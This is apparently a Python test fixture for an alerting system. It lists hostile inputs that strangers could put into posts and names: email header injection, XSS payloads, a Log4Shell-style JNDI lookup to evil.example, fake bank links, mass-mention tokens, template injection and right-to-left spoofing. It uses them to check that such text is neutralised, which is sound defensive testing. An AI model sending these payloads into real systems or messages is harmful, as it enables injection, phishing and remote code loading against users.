"""Texts that try to do something: what strangers put into posts, names and terms."""

from __future__ import annotations

from dataclasses import replace

from alerts.base import Message
from alerts.message import Exhibit
from tests.alerts.make import assessment, leak, mention, message

HOSTILE = {
    "header break": "nice\r\nBcc: x@evil.example\r\n\r\nbody",
    "lone line feed": "nice\nX-Evil: 1",
    "other line breaks": "a\u2028b\u2029c\x85d\ve\ff",
    "slack mentions": "<!channel> <!here> <@U012AB3CD> <!subteam^S1> <#C012>",
    "chat mentions": "@everyone @here @channel <@&1234> @room",
    "slack link": "<https://evil.example|your bank>",
    "markdown link": "[your bank](https://evil.example/login) ![x](https://evil.example/p.png)",
    "markdown reference": "[x][1]\n\n[1]: https://evil.example",
    "autolink": "<https://evil.example> www.evil.example javascript:alert(1)",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)><a href='https://evil.example'>",
    "html end": "</td></table></body></html><!-- ]]>",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200fabc",
    "control characters": "a\x00b\x1b[31mred\x07\x08\x7f",
    "templates": "{{ 7 * 7 }} {brand} %s %(x)s ${jndi:ldap://evil.example} {% raw %}",
    "json": '"}],"severity":"low","x":[{"y":"',
    "lone surrogate": "a\ud800b",
    "long": "long " * 4000,
    "markdown marks": "*bold* _it_ `code` ~~gone~~ # head\n> quote\n- item\n```\nblock",
    "encoded word": "=?utf-8?q?=0D=0ABcc:_x@evil.example?=",
}

STEERING = "\x00\x07\x08\x1b\x7f\x85\u200e\u200f\u2028\u2029\u202a\u202c\u202e\u2066\u2069"
"""Characters that reach no receiver, whatever the channel."""


def hostile_message(text: str) -> Message:
    """A message in which every free text is ``text``: more than composing one lets through."""
    composed = message(
        brand=text,
        exhibits=[
            Exhibit(mention(text, brand=text, author=text, platform=text), assessment(leak=leak()))
        ],
    )
    samples = tuple(replace(each, text=text, author=text) for each in composed.samples)
    return replace(
        composed, title=text, summary=text, why=((text, text),), actions=(text,), samples=samples
    )
